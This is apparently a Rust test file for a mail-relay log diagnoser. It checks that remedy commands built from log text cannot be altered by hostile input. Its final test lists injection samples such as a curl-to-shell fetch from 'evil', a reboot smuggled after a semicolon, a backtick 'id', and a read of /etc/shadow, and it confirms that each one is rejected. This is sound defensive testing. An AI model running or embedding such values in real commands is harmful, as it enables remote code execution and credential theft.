//! The commands of the remedies: those of the templates, whatever was caught in a log.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;

use proptest::collection::vec;
use proptest::prelude::*;
use proptest::sample::select;
use proptest::test_runner::TestRunner;
use relayhost::model::causes::catalogue::catalogue;
use relayhost::model::causes::words::Speaker;
use relayhost::model::causes::{About, Circumstances, diagnose, explain};

use super::shell::{complaint, entry_of};
use super::{FRAMES, draw, line_of, report, text_of, value, words};
use crate::project::project;

/// Lines of each entry.
const LINES: usize = 24;
/// Most lines for each pattern, in as many.
const MOST: usize = 40;

/// Every entry, read from lines of its own patterns: whatever was caught, each remedy is its template with harmless
/// words in it. Circumstances come from the log as well.
#[test]
fn no_caught_text_changes_a_command() {
    let mut runner = TestRunner::deterministic();
    let (mut filled, mut refused) = (BTreeMap::<&str, usize>::new(), BTreeMap::<&str, usize>::new());
    let mut read = BTreeMap::<&str, usize>::new();
    for entry in catalogue() {
        for (speaker, patterns) in entry.patterns() {
            for pattern in patterns {
                let (text, hostile) = (text_of(pattern), vec(value(), 3));
                let has_value = entry.remedy.contains("{1}");
                let lines = if has_value { LINES * 8 } else { LINES };
                for number in 0..LINES * MOST {
                    // Few values have the form that a remedy wants: one of them is to be met.
                    if number >= lines && (!has_value || filled.contains_key(entry.id.as_str())) {
                        break;
                    }
                    let text = draw(&text, &mut runner);
                    // A stranger's words stand in a daemon's sentence.
                    let framed = speaker == Speaker::Stranger && !pattern.as_str().starts_with('^');
                    let frame = if framed { draw(&select(FRAMES.to_vec()), &mut runner) } else { "%" };
                    let line = line_of(speaker, &frame.replace('%', &text));
                    let about = draw(&hostile, &mut runner);
                    let about = About {
                        relay: Some((&about[0], "", 587)),
                        sender: &about[1],
                        to: &about[2],
                        ..About::default()
                    };
                    let Some(words) = words(&line) else { continue };
                    let Some(found) = entry.captures(words) else { continue };
                    *read.entry(&entry.id).or_default() += 1;
                    let cause = explain(entry, &[words], &Circumstances::unknown(&about));
                    assert_eq!(complaint(entry, &cause), None, "{}: {line}\n{cause:#?}", entry.id);
                    if let (Some(form), Some(first)) = (entry.form, found.get(1)) {
                        let first = String::from_utf8_lossy(first.as_bytes());
                        let count = if form.fits(&first) { &mut filled } else { &mut refused };
                        *count.entry(&entry.id).or_default() += 1;
                        // What fits is shown as it is, what does not in quotes.
                        assert!(
                            form.fits(&first) || first.is_empty() || cause.cause.contains('"'),
                            "{cause:?}"
                        );
                    }
                    if number % 15 == 0
                        && let Some(named) = diagnose(&[words], &Circumstances::unknown(&about))
                    {
                        let of = entry_of(&named.id).unwrap();
                        assert_eq!(complaint(of, &named), None, "{}: {line}\n{named:#?}", named.id);
                    }
                }
            }
        }
    }
    // The property was tried: on every entry, and those that put what they caught into a remedy met both kinds of it.
    for entry in catalogue() {
        let of = |counts: &BTreeMap<&str, usize>| counts.get(entry.id.as_str()).copied().unwrap_or_default();
        assert!(of(&read) >= LINES / 4, "{}: {} lines", entry.id, of(&read));
        let pattern_takes_anything = entry
            .patterns()
            .iter()
            .flat_map(|(_, all)| *all)
            .any(|one| one.as_str().contains("(\\S+") || one.as_str().contains("([^"));
        if entry.remedy.contains("{1}") && pattern_takes_anything {
            assert!(of(&refused) > 5, "{}: {} refused", entry.id, of(&refused));
        }
    }
    let with_commands: BTreeSet<&str> = catalogue()
        .iter()
        .filter(|entry| entry.remedy.contains("{1}"))
        .map(|entry| entry.id.as_str())
        .collect();
    let met: BTreeSet<&str> = filled.keys().copied().filter(|id| with_commands.contains(id)).collect();
    assert!(with_commands.len() >= 14 && met == with_commands, "{met:?} of {with_commands:?}");
}

/// Each log of the corpus with hostile values in place of its words.
#[test]
fn no_log_changes_a_command() {
    let mut runner = TestRunner::deterministic();
    let (value, at) = (value(), any::<proptest::sample::Index>());
    let mut named = BTreeSet::new();
    let directory = project().join("tests/corpus");
    for file in fs::read_dir(directory).unwrap().map(|entry| entry.unwrap().path()) {
        if file.extension().is_none_or(|end| end != "log") {
            continue;
        }
        let log = String::from_utf8_lossy(&fs::read(&file).unwrap()).into_owned();
        let lines: Vec<&str> = log.lines().take(40).collect();
        for _ in 0..4 {
            let changed: String = lines
                .iter()
                .map(|line| {
                    let mut parts: Vec<&str> = line.split(' ').collect();
                    let (value, place) =
                        (draw(&value, &mut runner), draw(&at, &mut runner).index(parts.len()));
                    // The head has to stay, or nothing is read.
                    if place > 5 {
                        parts[place] = &value;
                    }
                    parts.join(" ").replace('\n', " ") + "\n"
                })
                .collect();
            for failure in report(&changed).failures.iter().filter(|failure| failure.cause.id != "unknown") {
                let Some(entry) = entry_of(&failure.cause.id) else { continue };
                assert_eq!(complaint(entry, &failure.cause), None, "{}: {changed}", file.display());
                named.insert(failure.cause.id.clone());
            }
        }
    }
    assert!(named.len() > 100, "{named:?}");
}

/// The oracle finds what it is there for.
#[test]
fn the_oracle_finds_a_command_that_was_changed() {
    let entry = entry_of("sasl-plugin-broken").unwrap();
    let about = About::default();
    let good =
        explain(entry, &["unable to dlopen /usr/lib64/sasl2/x.so: y"], &Circumstances::unknown(&about));
    assert_eq!(complaint(entry, &good), None);
    for bad in [
        "$(curl${IFS}evil|sh)",
        "x;reboot",
        "x y",
        "-x",
        "/usr/lib64/../bin/sh",
        "/etc/shadow",
        "x`id`",
        "x'y",
        "",
    ] {
        let mut cause = good.clone();
        cause.remedy = cause.remedy.text().replace("/usr/lib64/sasl2/x.so", bad).into();
        assert!(complaint(entry, &cause).is_some(), "{bad}");
        cause.remedy.clone_from(&good.remedy);
        cause.cause = format!("{} `{bad}`", cause.cause);
        assert!(complaint(entry, &cause).is_some(), "{bad}");
    }
}
